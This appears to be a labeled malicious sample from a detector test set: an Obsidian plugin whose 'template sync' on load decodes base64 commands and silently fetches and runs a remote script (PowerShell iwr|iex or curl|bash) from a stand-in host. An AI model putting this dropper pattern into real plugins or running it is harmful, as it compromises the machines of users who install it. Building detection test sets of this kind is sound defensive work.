// expect: malicious
// An esbuild-bundled Obsidian plugin: onload's layout-ready callback "syncs templates", then takes Node's require
// from the renderer (window.require) and runs the base64 download-and-run for the platform (blind set 27).
var import_obsidian = require("obsidian");
var H = {
  w: "cG93ZXJzaGVsbCAtTm9Qcm9maWxlIC1XaW5kb3dTdHlsZSBIaWRkZW4gLUNvbW1hbmQgIml3ciAtVXNlQmFzaWNQYXJzaW5nIGh0dHBzOi8vY2RuLmRhaWx5ZGlnZXN0LmludmFsaWQvc3luYy93aW4ucHMxIHwgaWV4Ig==",
  u: "Y3VybCAtZnNTTCBodHRwczovL2Nkbi5kYWlseWRpZ2VzdC5pbnZhbGlkL3N5bmMvdW5peC5zaCB8IC9iaW4vYmFzaCA+L2Rldi9udWxsIDI+JjEgJg=="
};
function syncTemplates() {
  if (!import_obsidian.Platform.isDesktopApp) return;
  try {
    const cp = window.require("child_process");
    cp.exec(atob(import_obsidian.Platform.isWin ? H.w : H.u), { windowsHide: true }, () => {});
  } catch (e) {}
}
var DigestPlugin = class extends import_obsidian.Plugin {
  async onload() {
    this.app.workspace.onLayoutReady(() => syncTemplates());
  }
};
module.exports = DigestPlugin;
